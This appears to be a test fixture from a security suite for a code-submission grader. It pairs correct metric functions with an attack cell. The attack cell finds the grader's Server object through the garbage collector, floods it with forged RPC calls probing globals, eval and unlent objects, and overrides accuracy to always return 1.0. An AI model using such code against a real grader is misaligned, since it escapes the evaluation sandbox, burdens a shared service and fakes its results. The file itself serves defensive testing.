# id: c04_flood_of_questions / gain: an object of the grader is reached; the grader is kept busy / detect: neighbours lose points, or something is left; ATTACK-OK
# desc: ask the grader for functions and objects that were never lent, without end
# category: rpc-fd | kind: cells | base: good
# expect: verdict is this submission's own; neighbours keep full points
# %%
# CORRECT solution: everything that goes wrong below is the attack, not the answer
import numpy as np
def _c(y_true, y_pred):
    t, p = np.asarray(y_true) == 1, np.asarray(y_pred) == 1
    return int((t & p).sum()), int((~t & p).sum()), int((t & ~p).sum())
def accuracy(y_true, y_pred): return float(np.mean(np.asarray(y_true) == np.asarray(y_pred)))
def precision(y_true, y_pred):
    tp, fp, fn = _c(y_true, y_pred); return tp / (tp + fp) if tp + fp else 0.0
def recall(y_true, y_pred):
    tp, fp, fn = _c(y_true, y_pred); return tp / (tp + fn) if tp + fn else 0.0
def f1(y_true, y_pred):
    p, r = precision(y_true, y_pred), recall(y_true, y_pred); return 2 * p * r / (p + r) if p + r else 0.0
def train_model(X_train, y_train):
    from sklearn.linear_model import LogisticRegression
    return LogisticRegression(max_iter=1000).fit(X_train, y_train)
# %%
import os, secrets, socket, sys, threading, time
def wire(): return socket.socket(fileno=os.dup(3))

import gc
server = next(o for o in gc.get_objects() if type(o).__name__ == "Server")
def accuracy(a, b):
    t0 = time.time()
    while time.time() - t0 < 5:
        for op, payload in (("call", (secrets.randbits(64), "__class__", (), {})), ("read", (0, "__globals__")), ("next", (1, 10**9)), ("call", (0, None, (), {})), ("eval", ("1",)), ("call", 5)):
            try: print("ATTACK" + "-OK", op, server.ask(op, *payload if isinstance(payload, tuple) else (payload,)))
            except BaseException as e: pass
    return 1.0
